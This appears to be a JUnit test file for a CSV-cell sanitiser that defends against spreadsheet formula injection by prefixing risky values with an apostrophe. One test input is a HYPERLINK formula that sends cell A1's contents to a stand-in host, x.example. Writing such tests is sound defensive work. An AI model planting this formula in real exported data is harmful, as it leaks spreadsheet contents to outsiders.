package com.catalogimage.report;

import org.junit.jupiter.api.Test;

import static org.assertj.core.api.Assertions.assertThat;

class CsvCellsTests {

	@Test
	void textThatASpreadsheetWouldRunAsAFormulaGetsALeadingApostrophe() {
		assertThat(CsvCells.neutralise("=HYPERLINK(\"http://x.example/?\"&A1;\"click\")"))
			.isEqualTo("'=HYPERLINK(\"http://x.example/?\"&A1;\"click\")");
		assertThat(CsvCells.neutralise("+1 555 0100")).isEqualTo("'+1 555 0100");
		assertThat(CsvCells.neutralise("-A1")).isEqualTo("'-A1");
		assertThat(CsvCells.neutralise("-2+3")).isEqualTo("'-2+3");
		assertThat(CsvCells.neutralise("@SUM(A1:A9)")).isEqualTo("'@SUM(A1:A9)");
		assertThat(CsvCells.neutralise("\t=1+1")).isEqualTo("'\t=1+1");
		assertThat(CsvCells.neutralise("\r=1+1")).isEqualTo("'\r=1+1");
	}

	@Test
	void numbersEmptyCellsAndOrdinaryTextStayAsTheyAre() {
		for (String number : new String[] { "-0.5", "+3", "-12", "-1e-3", "-.5", "0.000000", "2026-11-24T01:02:03.004Z" }) {
			assertThat(CsvCells.neutralise(number)).as(number).isEqualTo(number);
		}
		assertThat(CsvCells.neutralise(-5L)).isEqualTo(-5L);
		assertThat(CsvCells.neutralise(null)).isNull();
		assertThat(CsvCells.neutralise("")).isEqualTo("");
		assertThat(CsvCells.neutralise("Mug = red")).isEqualTo("Mug = red");
		assertThat(CsvCells.neutralised("A-1", null, 3)).containsExactly("A-1", null, 3);
	}

}
